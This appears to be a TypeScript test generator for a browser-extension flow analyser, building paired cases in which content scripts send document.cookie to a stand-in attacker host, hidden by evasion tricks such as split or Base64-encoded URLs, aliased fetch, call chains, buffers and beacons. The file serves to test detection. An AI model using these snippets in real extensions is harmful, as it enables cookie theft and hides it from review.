import { flow, post, thief, type Case } from '../case.ts';
import { casesOfPairs, type Pair } from '../pairs.ts';

/** Thefts behind noise and indirection; the twin has the same noise, and sends nothing of anybody's. */
export function evasionCases(): readonly Case[] {
  return casesOfPairs('evasions', [
    ...noisyValues(),
    ...rows('noise before', noiseBefore),
    ...callsBefore,
    ...rows('global members', globalMembers),
    ...rows('addresses in parts', addresses),
    ...rows('queues and buffers', buffers),
    ...rows('texts made over', texts),
  ]);
}

const cookie = "«document.cookie¦(void document.cookie, 'calm')»";
const times = (count: number, code: (n: number) => string): string =>
  Array.from({ length: count }, (_, n) => code(n)).join(' ');
const listed = (count: number, code: (n: number) => string): string =>
  Array.from({ length: count }, (_, n) => code(n)).join(', ');

/** Harmless origins, read by number, within code that has them. */
const noises: Readonly<Record<string, readonly [around: string, value: (n: number) => string]>> = {
  'stored values': ['chrome.storage.local.get(null, (kept) => { § });', (n) => `kept.tide${n}`],
  'members of a message': [
    'chrome.runtime.onMessage.addListener((note) => { § });',
    (n) => `note.tide${n}`,
  ],
  'members of self': ['§', (n) => `self.tide${n}`],
  'local storage': ['§', (n) => `localStorage.getItem('tide${n}')`],
  'texts of elements': ['§', (n) => `document.querySelector('#tide${n}').title`],
  'an answer of the own server': [
    "fetch('https://calm.tides.dev/b').then((answer) => answer.json()).then((answer) => { § });",
    (n) => `answer.tide${n}`,
  ],
};

/** A hundred values and the stolen one, put together. */
const containers: Readonly<Record<string, (value: (n: number) => string) => string>> = {
  'an object': (value) =>
    `const all = { ${listed(100, (n) => `k${n}: ${value(n)}`)}, end: ${cookie} }; ${post('all')};`,
  'members one by one': (value) =>
    `const all = {}; ${times(100, (n) => `all.k${n} = ${value(n)};`)} all.end = ${cookie}; ${post('all')};`,
  'a list': (value) => `const all = [${listed(100, value)}, ${cookie}]; ${post('all')};`,
  push: (value) =>
    `const all = []; ${times(100, (n) => `all.push(${value(n)});`)} all.push(${cookie}); ${post('all')};`,
  'a text': (value) =>
    `let all = ''; ${times(100, (n) => `all += ${value(n)};`)} all += ${cookie}; ${post('all')};`,
  'thirty assignments': (value) =>
    `let one = 5; ${times(30, (n) => `if (Math.random() > ${n + 1}) one = ${value(n)};`)} if (Math.random() < 2) one = ${cookie}; ${post('one')};`,
  'thirty calls': (value) =>
    `function send(data) { ${post('data')} } ${times(30, (n) => `send(${value(n)});`)} send(${cookie});`,
};

function noisyValues(): readonly Pair[] {
  return Object.entries(noises).flatMap(([noise, [around, value]]) =>
    Object.entries(containers).map(([container, write]) => ({
      group: `${noise} around`,
      name: container,
      program: {
        content: { 'content.js': around.replace('§', write(value)) },
        ...(noise === 'members of a message' && {
          worker:
            "chrome.tabs.query({}, (open) => chrome.tabs.sendMessage(7, { type: 'note', n: 5 }));",
        }),
      },
      fact: flow('cookies'),
    })),
  );
}

type Codes = Readonly<Record<string, string>>;

const noiseBefore: Codes = {
  'thirty calls with a number': `function send(data) { ${post('data')} } ${times(30, (n) => `send(${n});`)} send(${cookie});`,
  'thirty assignments of numbers': `let one = 0; ${times(30, (n) => `if (Math.random() > ${n + 1}) one = ${n};`)} if (Math.random() < 2) one = ${cookie}; ${post('one')};`,
  'a hundred numbers in an object': `const all = { ${listed(100, (n) => `k${n}: ${n}`)}, end: ${cookie} }; ${post('all')};`,
  'a hundred callbacks': `const acts = [${listed(100, (n) => `() => ${n}`)}, () => ${cookie}]; acts.forEach((act) => { ${post('act()')} });`,
  'thirty listeners': `${times(30, (n) => `window.addEventListener('tide${n}', () => {});`)} const send = (data) => ${post('data')}; send(${cookie});`,
  'thirty functions on the way': `${times(30, (n) => `const f${n} = (data) => ${n === 0 ? post('data') : `f${n - 1}(data)`};`)} f29(${cookie});`,
  'ten functions on the way': `${times(10, (n) => `const f${n} = (data) => ${n === 0 ? post('data') : `f${n - 1}(data)`};`)} f9(${cookie});`,
  'thirty aliases': `const a0 = ${cookie}; ${times(30, (n) => `const a${n + 1} = a${n};`)} ${post('a30')};`,
  'a table of a hundred actions': `const acts = { ${listed(100, (n) => `k${n}: () => ${n}`)}, send: (data) => { ${post('data')} } }; acts.send(${cookie});`,
  'a hundred cases': `function send(kind, data) { switch (kind) { ${times(100, (n) => `case 'k${n}': return ${n};`)} case 'send': return ${post('data')}; } } send('send', ${cookie});`,
};

/** More calls than are asked what they run while a script is read, some of which hand functions on. */
const manyCalls = times(
  1_500,
  (n) =>
    `function h${n}(f, depth) { const k = f || list[${n}]; list.push(k); return depth > 0 ? depth : k(h${n}, 1); } h${n}(h${Math.max(0, n - 1)}, 0);`,
);
const keptSender = `class Api { constructor(act) { this.act = act; } post(data) { return this.act(data); } }
const box = { api: undefined }; function boot(act) { box.api = new Api(act); }`;
const keptBy = (act: string): string =>
  `const list = []; ${manyCalls} ${keptSender} boot((data) => { ${act} }); [(data) => box.api.post(data)].forEach((act) => act(${cookie}));`;
const callsBefore: readonly Pair[] = [
  { name: 'a function that a class keeps', act: post('data'), worker: undefined },
  {
    name: 'a function that a class keeps, beside what is stored',
    act: `chrome.storage.local.get('id', ({ id }) => { ${post('JSON.stringify({ id, data })')} });`,
    worker: undefined,
  },
  {
    name: 'a message that a class sends',
    act: "chrome.runtime.sendMessage({ kind: 'kept', data });",
    worker: `chrome.runtime.onMessage.addListener(({ kind, data }) => { if (kind === 'kept') ${post('data')} });`,
  },
].map(({ name, act, worker }) => ({
  group: 'thousands of calls before',
  name,
  program: { content: { 'content.js': keptBy(act) }, ...(worker !== undefined && { worker }) },
  fact: flow('cookies'),
}));

const globalMembers: Codes = {
  'a socket of self': `self.ws = new WebSocket('wss://${thief}/a'); self.ws.send(${cookie});`,
  'a socket of window': `window.ws = new WebSocket('wss://${thief}/a'); window.ws.send(${cookie});`,
  'a socket of globalThis by its name': `globalThis.ws = new WebSocket('wss://${thief}/a'); ws.send(${cookie});`,
  'a function of self': `self.send = function (data) { ${post('data')} }; send(${cookie});`,
  'a function of window': `window.send = (data) => { ${post('data')} }; window.send(${cookie});`,
  'a function of globalThis in brackets': `globalThis['send'] = (data) => { ${post('data')} }; globalThis['send'](${cookie});`,
  'an object of window': `window.app = { send(data) { ${post('data')} } }; app.send(${cookie});`,
  'data of window': `window.stash = ${cookie}; setTimeout(() => { ${post('window.stash')} }, 50);`,
  'a list of self': `self.kept = []; self.kept.push(${cookie}); setTimeout(() => { ${post('self.kept')} }, 50);`,
  'a request of window': `window.request = new XMLHttpRequest(); window.request.open('POST', 'https://${thief}/a'); window.request.send(${cookie});`,
  'fetch of window in brackets': `window['fet' + 'ch']('https://${thief}/a', { method: 'POST', body: ${cookie} });`,
  'fetch of self under another name': `self.load = self.fetch; self.load('https://${thief}/a', { method: 'POST', body: ${cookie} });`,
};

const posted = (address: string): string =>
  `fetch(${address}, { method: 'POST', body: ${cookie} });`;
const addresses: Codes = {
  'a sum': posted("'https://' + 'in.' + 'gather' + '.dev/a'"),
  'a template of parts': `const host = 'gather', end = 'dev'; ${posted('`https://in.${host}.${end}/a`')}`,
  'a joined list': `const parts = ['https:', '', 'in.gather.dev', 'a']; ${posted("parts.join('/')")}`,
  'a joined host': `const parts = ['in', 'gather', 'dev']; ${posted("'https://' + parts.join('.') + '/a'")}`,
  'a reversed text': posted("'a/ved.rehtag.ni//:sptth'.split('').reverse().join('')"),
  'letters by number': posted(
    `String.fromCharCode(${Array.from(`https://${thief}/a`, (letter) => letter.charCodeAt(0)).join(', ')})`,
  ),
  Base64: posted(`atob('${btoa(`https://${thief}/a`)}')`),
  'a URL object': `const url = new URL('/a', 'https://${thief}'); ${posted('url')}`,
  'the href of a URL': `const url = new URL('https://${thief}'); url.pathname = '/a'; ${posted('url.href')}`,
  'a setting': `const settings = { api: { host: '${thief}', path: '/a' } }; ${posted("'https://' + settings.api.host + settings.api.path")}`,
  'a parameter and a part': `function send(base, data) { fetch(base + '/a?x=5', { method: 'POST', body: data }) } send('https://${thief}', ${cookie});`,
  'a parameter that a script element gets': `function load(address) { const image = new Image(); image.src = address + '?c=' + ${cookie}; } load('https://${thief}/a');`,
  replace: posted("'https://in.HOST.dev/a'.replace('HOST', 'gather')"),
  'an item of a list': `const hosts = ['calm.tides.dev', '${thief}']; ${posted("'https://' + hosts[1] + '/a'")}`,
  'added to': `let url = 'https://'; url += 'in.gather'; url += '.dev'; url += '/a'; ${posted('url')}`,
  'a field of a class': `class Api { base = 'https://${thief}'; send(data) { fetch(this.base + '/a', { method: 'POST', body: data }) } } new Api().send(${cookie});`,
};

const buffers: Codes = {
  'push and a flush': `const kept = []; kept.push(${cookie}); setTimeout(() => { ${post('kept')}; kept.length = 0; }, 50);`,
  'push and shift': `const kept = []; kept.push(${cookie}); setTimeout(() => { const one = kept.shift(); ${post('one')} }, 50);`,
  'push and join': `const kept = []; kept.push('tide'); kept.push(${cookie}); ${post("kept.join('|')")};`,
  'splice all': `const kept = []; kept.push(${cookie}); const batch = kept.splice(0, kept.length); ${post('batch')};`,
  'a text that grows': `let kept = ''; const add = (text) => { kept += text }; add('tide'); add(${cookie}); setTimeout(() => { ${post('kept')} }, 50);`,
  'a Map': `const kept = new Map(); kept.set('tide', 5); kept.set('crumbs', ${cookie}); ${post('[...kept.values()]')};`,
  'a Map by its key': `const kept = new Map(); kept.set('crumbs', ${cookie}); setTimeout(() => { ${post("kept.get('crumbs')")} }, 50);`,
  'a Set': `const kept = new Set(); kept.add(${cookie}); for (const one of kept) ${post('one')};`,
  'an object by number': `const kept = {}; let n = 0; kept[n++] = ${cookie}; setTimeout(() => { ${post('Object.values(kept)')} }, 50);`,
  'a class with a queue': `class Queue { items = []; add(item) { this.items.push(item); if (this.items.length > 0) this.flush() } flush() { ${post('this.items')}; this.items = [] } } new Queue().add(${cookie});`,
  'a queue of tasks': `const tasks = []; tasks.push(() => { const data = ${cookie}; ${post('data')} }); while (tasks.length > 0) tasks.shift()();`,
  'a queue of objects': `const kept = []; kept.push({ at: Date.now(), text: ${cookie} }); setTimeout(() => { for (const { text } of kept.splice(0)) ${post('text')} }, 50);`,
  'a copy of a buffer': `let kept = []; kept.push(${cookie}); const batch = [...kept]; kept = []; ${post('{ batch }')};`,
  'a search string': `const kept = new URLSearchParams(); kept.append('crumbs', ${cookie}); fetch('https://${thief}/a?' + kept.toString());`,
  'a form': `const kept = new FormData(); kept.append('crumbs', ${cookie}); fetch('https://${thief}/a', { method: 'POST', body: kept.get('crumbs') });`,
};

const texts: Codes = {
  Base64: `${post(`btoa(${cookie}.split('=')[1] || 'calm')`)};`,
  'percent-encoding': `new Image().src = 'https://${thief}/a?c=' + encodeURIComponent(${cookie});`,
  'a beacon': `navigator.sendBeacon('https://${thief}/a', ${cookie});`,
  'split and joined': `${post(`${cookie}.split('; ').join(',')`)};`,
  'mapped parts': `${post(`${cookie}.split('; ').map((part) => part.trim())`)};`,
  'letters one by one': `let kept = ''; for (const letter of ${cookie}) kept += letter; ${post('kept')};`,
  'an object of parts': `const kept = {}; ${cookie}.split('; ').forEach((part) => { const [name, value] = part.split('='); kept[name] = value; }); ${post('kept')};`,
  'JSON in JSON': `${post(`{ inner: JSON.stringify({ c: ${cookie} }) }`)};`,
};

function rows(group: string, codes: Codes): readonly Pair[] {
  return Object.entries(codes).map(([name, code]) => ({
    group,
    name,
    program: { content: { 'content.js': code } },
    fact: flow('cookies'),
  }));
}
